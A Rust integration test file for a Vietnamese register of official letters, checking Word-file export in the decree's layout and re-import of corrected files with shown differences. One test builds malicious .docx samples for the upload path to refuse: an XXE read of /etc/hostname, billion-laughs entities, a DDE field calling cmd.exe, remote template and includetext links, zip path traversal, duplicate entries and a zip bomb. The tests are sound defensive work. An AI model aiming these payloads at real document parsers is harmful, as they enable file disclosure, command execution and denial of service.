//! Documents as Word files: out in the decree's layout, back with corrections, and what is not let in.

use std::io::{Cursor, Read, Write};

use hoithi_rules::ids::DocumentId;
use hoithi_testkit::{Answer, Browser, TestHouse, both};
use zip::write::SimpleFileOptions;
use zip::{ZipArchive, ZipWriter};

use crate::correspondence::{chain, launched};

const REGISTER: &str = "/ky/quang-ninh-viii/van-ban";

pub(crate) type Parts = Vec<(String, Vec<u8>)>;

/// The files of a zip.
pub(crate) fn unzipped(bytes: &[u8]) -> Parts {
    let mut zip = ZipArchive::new(Cursor::new(bytes)).unwrap();
    let mut parts = Vec::new();
    for place in 0..zip.len() {
        let mut file = zip.by_index(place).unwrap();
        let (name, mut bytes) = (file.name().unwrap().into_owned(), Vec::new());
        file.read_to_end(&mut bytes).unwrap();
        parts.push((name, bytes));
    }
    parts
}

fn zipped(parts: &Parts) -> Vec<u8> {
    let mut zip = ZipWriter::new(Cursor::new(Vec::new()));
    for (name, bytes) in parts {
        zip.start_file(name.as_str(), SimpleFileOptions::default()).unwrap();
        zip.write_all(bytes).unwrap();
    }
    zip.finish().unwrap().into_inner()
}

/// The same file with some words of a part changed.
fn changed(file: &[u8], part: &str, was: &str, becomes: &str) -> Vec<u8> {
    let mut parts = unzipped(file);
    let found = parts.iter_mut().find(|(name, _)| name == part).unwrap();
    let text = String::from_utf8(found.1.clone()).unwrap();
    assert!(text.contains(was), "{was} is not in {part}");
    found.1 = text.replacen(was, becomes, 1).into_bytes();
    zipped(&parts)
}

/// The same file with one more part.
fn with(file: &[u8], part: &str, bytes: &[u8]) -> Vec<u8> {
    let mut parts = unzipped(file);
    parts.push((part.to_owned(), bytes.to_vec()));
    zipped(&parts)
}

/// The same file with a second part of that name, which no program that writes zips would make.
fn twice(file: &[u8], part: &str) -> Vec<u8> {
    let stand_in = format!("{}~", &part[..part.len() - 1]);
    let doubled = with(file, &stand_in, b"<x/>");
    let (mut bytes, mut from) = (doubled, 0);
    while let Some(place) = bytes[from..].windows(stand_in.len()).position(|here| here == stand_in.as_bytes()) {
        let place = from + place;
        bytes[place..place + part.len()].copy_from_slice(part.as_bytes());
        from = place + part.len();
    }
    bytes
}

/// The words of the text, by another reader than the one that wrote or reads them.
pub(crate) fn words(file: &[u8]) -> String {
    let parts = unzipped(file);
    for (name, bytes) in &parts {
        let text = std::str::from_utf8(bytes).unwrap();
        roxmltree::Document::parse(text).unwrap_or_else(|error| panic!("{name}: {error}"));
    }
    let (_, document) = parts.iter().find(|(name, _)| name == "word/document.xml").unwrap();
    let document = roxmltree::Document::parse(std::str::from_utf8(document).unwrap()).unwrap();
    let paragraphs = document
        .descendants()
        .filter(|node| node.has_tag_name(("http://schemas.openxmlformats.org/wordprocessingml/2006/main", "p")));
    // An element answers with its first text too: only the texts themselves are asked.
    let texts = |node: roxmltree::Node<'_, '_>| {
        node.descendants()
            .filter(roxmltree::Node::is_text)
            .filter_map(|text| text.text().map(str::to_owned))
            .collect::<String>()
    };
    paragraphs.map(texts).collect::<Vec<_>>().join("\n")
}

struct Draft {
    officer: Browser,
    id: DocumentId,
    path: String,
    word: Vec<u8>,
}

impl Draft {
    async fn of_the_letter(house: &TestHouse) -> Self {
        launched(house).await;
        let officer = house.signed_in("chuyen.vien").await;
        let [.., id] = chain(&officer).await;
        let path = format!("{REGISTER}/{id}");
        let word = officer.get(&format!("{path}/word")).await;
        assert_eq!(word.status(), 200, "{}", word.text());
        Self { officer, id, path, word: word.bytes().to_vec() }
    }

    async fn send_back(&self, file: &[u8]) -> Answer {
        self.officer
            .send_files(&format!("{}/doc-lai", self.path), &[("version", "1")], &[("file", "sua.docx", file)])
            .await
    }

    async fn text(&self) -> String {
        let page = self.officer.get(&format!("{}/sua", self.path)).await;
        page.select("textarea[name=text]").join("\n")
    }
}

both! {
    async fn a_draft_goes_out_as_a_word_file_in_the_decree_s_layout(house: TestHouse) {
        let draft = Draft::of_the_letter(&house).await;
        let words = words(&draft.word);
        for line in [
            "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM",
            "Độc lập - Tự do - Hạnh phúc",
            "LIÊN HIỆP CÁC HỘI KHOA HỌC VÀ KỸ THUẬT TỈNH QUẢNG NINH",
            "/LHH-KHCN",
            "V/v tổ chức triển khai Hội thi Sáng tạo kỹ thuật tỉnh Quảng Ninh lần thứ VIII, năm 2020 - 2021",
            "Kính gửi: UBND các huyện, thị xã, thành phố",
            "1. Về tổ chức triển khai Hội thi:",
            "- Tổ chức phát động phong trào đổi mới sáng tạo;",
            "KT. CHỦ TỊCH",
            "PHÓ CHỦ TỊCH",
            "- Như trên;",
            "- Lưu: VT, KHCN.",
        ] {
            assert!(words.contains(line), "{line} is not in:\n{words}");
        }
        let again = draft.officer.get(&format!("/api/v1/documents/{}/word", draft.id)).await;
        assert!(again.bytes() == draft.word, "the same draft gives the same bytes");
        let styles = unzipped(&draft.word).into_iter().find(|(name, _)| name == "word/styles.xml").unwrap().1;
        assert!(String::from_utf8(styles).unwrap().contains("Times New Roman"));
    }

    async fn a_corrected_word_file_shows_its_differences_and_becomes_the_draft(house: TestHouse) {
        let draft = Draft::of_the_letter(&house).await;
        let before = draft.text().await;
        let file = changed(&draft.word, "word/document.xml", "Tổ chức phát động phong trào", "Đẩy mạnh phong trào");
        let read = draft.send_back(&file).await;
        assert_eq!(read.status(), 200, "{:?}", read.select(".govuk-error-summary a"));
        assert!(read.select("ins").join(" ").contains("Đẩy mạnh"), "{}", read.text());
        assert!(read.select("del").join(" ").contains("phát động"), "{}", read.text());
        assert_eq!(draft.text().await, before, "nothing is taken before somebody says so");

        let kept = read.attribute("input[name=kept]", "value").unwrap();
        let fields = [("version", "1"), ("kept", kept.as_str())];
        let taken = draft.officer.send_files(&format!("{}/doc-lai", draft.path), &fields, &[]).await;
        assert_eq!(taken.status(), 303, "{:?}", taken.select(".govuk-error-summary a"));
        let after = draft.text().await;
        assert_eq!(after, before.replace("Tổ chức phát động phong trào", "Đẩy mạnh phong trào"));

        let page = draft.officer.get(&format!("{}/doc-lai", draft.path)).await;
        assert!(page.says("Tổ chức phát động phong trào"), "what stood before stays readable");
        let link = page.attributes("a", "href").into_iter().find(|href| href.contains("/doc-lai/")).unwrap();
        assert!(draft.officer.get(&link).await.bytes() == file, "the file is kept byte for byte");
        let twice = draft.officer.send_files(&format!("{}/doc-lai", draft.path), &fields, &[]).await;
        assert_eq!(twice.status(), 200, "taken once");
    }

    async fn an_emptied_line_goes_whole_and_what_is_not_taken_is_named(house: TestHouse) {
        let draft = Draft::of_the_letter(&house).await;
        let gone = "Tổ chức phát động phong trào đổi mới sáng tạo;";
        let emptied = changed(&draft.word, "word/document.xml", gone, "");
        let read = draft.send_back(&emptied).await;
        assert!(read.select("del").join(" ").contains(gone), "{}", read.text());
        assert!(read.select("ins").is_empty(), "no lone dash stays: {}", read.text());
        assert!(!read.says("Không nhận từ tệp Word"));
        let signer = |file: &[u8]| changed(file, "word/document.xml", "Phạm Văn Quyết", "Nông Văn Trưởng");
        let read = draft.send_back(&signer(&emptied)).await;
        assert!(read.says("Không nhận từ tệp Word") && read.says("Người ký, thẩm quyền ký"), "{}", read.text());
        let only = draft.send_back(&signer(&draft.word)).await;
        assert!(only.says("Tệp chỉ đổi số, ngày hoặc người ký"), "{}", only.text());
    }

    async fn a_word_file_that_nobody_changed_brings_nothing_new(house: TestHouse) {
        let draft = Draft::of_the_letter(&house).await;
        let table = "Căn cứ Luật Thi đua;\nCăn cứ Quyết định số 85/QĐ-BTC.\nĐiều 1. Tặng giải:\n| TT | Tên | Tiền |\n| :-: | ---- | -: |\n| Nhất |\n| 1 | Máy & <bơm> | 5 |\n| ** | **Cộng** | **5** |\n**Điều 2.** Thi hành.";
        let fields = [
            ("kind", "decision"), ("issuer", "Ban Tổ chức"), ("symbol", "QĐ-BTC"), ("place", "Quảng Ninh"),
            ("subject", "Tặng giải"), ("text", table), ("capacity", "own"), ("position", "Trưởng ban"),
            ("signer", "Phạm Văn Quyết"), ("annex_title", "Danh sách"), ("annex", "**I. Giải Nhất**\n- Một"),
            ("annex_title_2", "Biểu mẫu"), ("annex_2", "Hai hàng.\n- Ba"),
        ];
        let saved = draft.officer.send(&format!("{REGISTER}/moi"), &fields).await;
        assert_eq!(saved.status(), 303, "{:?}", saved.select(".govuk-error-summary a"));
        for path in [draft.path.clone(), saved.location().to_owned()] {
            let file = draft.officer.get(&format!("{path}/word")).await;
            let same = draft.officer.send_files(&format!("{path}/doc-lai"), &[("version", "1")], &[("file", "sua.docx", file.bytes())]).await;
            assert!(same.says("Nội dung tệp giống hệt dự thảo"), "{}", same.text());
        }
    }

    async fn what_somebody_wrote_elsewhere_is_found_by_its_words(house: TestHouse) {
        let draft = Draft::of_the_letter(&house).await;
        let mut parts = unzipped(&draft.word);
        let document = parts.iter_mut().find(|(name, _)| name == "word/document.xml").unwrap();
        let text = String::from_utf8(document.1.clone()).unwrap();
        let styles = regex::Regex::new("<w:pStyle w:val=\"VB[A-Za-z]*\"/>").unwrap();
        document.1 = styles.replace_all(&text, "").replace("đổi mới sáng tạo", "sáng kiến").into_bytes();
        let read = draft.send_back(&zipped(&parts)).await;
        assert!(read.select("ins").join(" ").contains("kiến"), "{}", read.text());
        assert!(!read.says("Bỏ: UBND các huyện"), "what the file does not say stays");
        assert!(!read.select("ins").join(" ").contains("CỘNG HÒA"), "the frame is no text");
        assert!(!read.select("ins").join(" ").contains("PHÓ CHỦ TỊCH"), "nor is the signature");
    }

    async fn a_word_file_that_may_do_harm_is_refused_by_name_and_the_draft_stays(house: TestHouse) {
        let draft = Draft::of_the_letter(&house).await;
        let before = draft.text().await;
        let good = &draft.word;
        let links = "word/_rels/document.xml.rels";
        let outside = "<Relationship Id=\"x\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"http://vidu.invalid/a.dotm\" TargetMode=\"External\"/></Relationships>";
        let laughs = "?><!DOCTYPE w [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;\">]>";
        let nested = format!("<w:body>{}", "<w:x>".repeat(300));
        let bomb = vec![b' '; 30 * 1024 * 1024];
        let foreign = "?><!DOCTYPE w [<!ENTITY tep SYSTEM \"file:///etc/hostname\">]>";
        let chunk = "<Relationship Id=\"x\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk\" Target=\"chunk.html\"/></Relationships>";
        let field = |pieces: &str| changed(good, "word/document.xml", "<w:body>", &format!("<w:body><w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>{pieces}</w:p>"));
        let in_pieces = "<w:r><w:instrText> DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\cmd.exe \"/k\"</w:instrText></w:r>";
        let included = "<w:fldSimple w:instr=\" includetext http://vidu.invalid/a.docx\"/>";
        let wide = format!("<w:body w:x=\"{}\">", "a".repeat(25 * 1024 * 1024));
        let refused: [(&str, Vec<u8>); 19] = [
            ("macro", with(good, "word/vbaProject.bin", b"x")),
            ("macro", changed(good, "[Content_Types].xml", "wordprocessingml.document.main", "ms-word.document.macroEnabled.main")),
            ("nhúng đối tượng", with(good, "word/embeddings/oleObject1.bin", b"x")),
            ("ở ngoài", changed(good, links, "</Relationships>", outside)),
            ("bất thường", changed(good, "word/document.xml", "?>", laughs)),
            ("bất thường", changed(good, "word/document.xml", "CỘNG HÒA", "&mau;")),
            ("bất thường", changed(good, "word/document.xml", "<w:body>", &nested)),
            ("bất thường", changed(good, "word/document.xml", "?>", foreign)),
            ("bất thường", with(good, "word/../../trang.xml", b"<x/>")),
            ("bất thường", with(good, "word\\..\\trang.xml", b"<x/>")),
            ("bất thường", twice(good, "word/document.xml")),
            ("nhúng đối tượng", changed(good, links, "</Relationships>", chunk)),
            ("ở ngoài", field(in_pieces)),
            ("ở ngoài", field(included)),
            ("quá lớn", changed(good, "word/document.xml", "<w:body>", &wide)),
            ("quá lớn", with(good, "word/media/trang.xml", &bomb)),
            ("mật khẩu", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 khoa".to_vec()),
            ("hỏng", good[..good.len() / 2].to_vec()),
            ("hỏng", b"khong phai tep Word".to_vec()),
        ];
        for (word, file) in refused {
            let answer = draft.send_back(&file).await;
            let told = answer.select(".govuk-error-summary a").join(" ");
            assert!(told.contains(word), "{word}: {told}");
        }
        let nothing = draft.officer.send(&format!("{}/doc-lai", draft.path), &[("version", "1")]).await;
        assert!(nothing.says("Vui lòng chọn tệp Word đã sửa"));
        assert_eq!(draft.text().await, before);
    }

    async fn columns_wider_than_any_sheet_and_the_page_s_own_fields_are_read(house: TestHouse) {
        let draft = Draft::of_the_letter(&house).await;
        let cell = |words: &str| format!("<w:tc><w:p><w:r><w:t>{words}</w:t></w:r></w:p></w:tc>");
        let table = format!(
            "<w:body><w:tbl><w:tblGrid><w:gridCol w:w=\"4294967295\"/><w:gridCol w:w=\"4294967295\"/></w:tblGrid><w:tr>{}{}</w:tr></w:tbl>",
            cell("Đơn vị"), cell("Số giải pháp"),
        );
        let read = draft.send_back(&changed(&draft.word, "word/document.xml", "<w:body>", &table)).await;
        assert!(read.select(".govuk-error-summary a").is_empty() && read.says("Số giải pháp"), "{}", read.text());
    }

    async fn a_word_file_with_more_annexes_than_fit_is_refused_and_the_draft_stays(house: TestHouse) {
        let draft = Draft::of_the_letter(&house).await;
        let before = draft.text().await;
        let paragraph = |style: &str, words: &str| {
            format!("<w:p><w:pPr><w:pStyle w:val=\"{style}\"/></w:pPr><w:r><w:t>{words}</w:t></w:r></w:p>")
        };
        let annex = |number: usize| paragraph("VBPhuLuc", "Phụ lục") + &paragraph("Normal", &format!("Mục thứ {number}"));
        let of = |count: usize| {
            let annexes = (1..=count).map(annex).collect::<String>() + "</w:body>";
            changed(&draft.word, "word/document.xml", "</w:body>", &annexes)
        };
        let nine = draft.send_back(&of(9)).await;
        assert_eq!(nine.attributes(".govuk-error-summary a", "href"), ["#file"], "{}", nine.text());
        assert!(nine.says("Một văn bản có nhiều nhất 8 phụ lục; ở đây có 9."), "{}", nine.text());
        assert_eq!(draft.text().await, before);
        let eight = draft.send_back(&of(8)).await;
        assert!(eight.select(".govuk-error-summary a").is_empty() && eight.says("Mục thứ 8"), "{}", eight.text());
    }

    async fn only_who_reads_the_register_has_its_word_files(house: TestHouse) {
        let draft = Draft::of_the_letter(&house).await;
        let stranger = house.browser();
        assert_ne!(stranger.get(&format!("{}/word", draft.path)).await.status(), 200);
        assert_ne!(stranger.get(&format!("/api/v1/documents/{}/word", draft.id)).await.status(), 200);
        assert_ne!(stranger.get(&format!("{}/doc-lai", draft.path)).await.status(), 200);
    }
}
